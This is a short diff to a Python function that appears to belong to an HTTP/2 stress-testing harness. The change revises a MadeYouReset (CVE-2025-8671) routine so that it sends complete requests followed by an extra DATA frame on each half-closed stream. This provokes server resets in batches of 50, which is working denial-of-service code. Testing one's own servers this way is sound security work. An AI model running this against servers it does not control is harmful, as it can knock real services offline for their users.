@@ -329,15 +329,15 @@ def padding_only_data(port: int, pki: str, stop_at: float, t: Tally) -> None:
 
 
 def made_you_reset(port: int, pki: str, stop_at: float, t: Tally) -> None:
-    """Valid requests followed by a WINDOW_UPDATE of 0 on the stream, which makes the server reset
-    it (a stream error): server-sent resets on demand (CVE-2025-8671)."""
+    """Complete requests (HEADERS + DATA with END_STREAM) followed by one more DATA frame on the
+    half-closed stream, which the server must answer with RST_STREAM(STREAM_CLOSED): server-sent
+    resets on demand (CVE-2025-8671, MadeYouReset)."""
     def body(c: Conn, st: dict) -> bool:
         out = b""
         for _ in range(50):
             sid = next_sid(st)
             out += frame(HEADERS, END_HEADERS, sid, request_block("/v1/request_capabilities"))
-            out += frame(WINDOW_UPDATE, 0, sid, (0).to_bytes(4, "big"))
-            out += frame(DATA, END_STREAM, sid, RC_BODY)
+            out += frame(DATA, END_STREAM, sid, RC_BODY) + frame(DATA, 0, sid, b"x")
         ok = c.send(out)
         c.poll(0.0)
         return ok
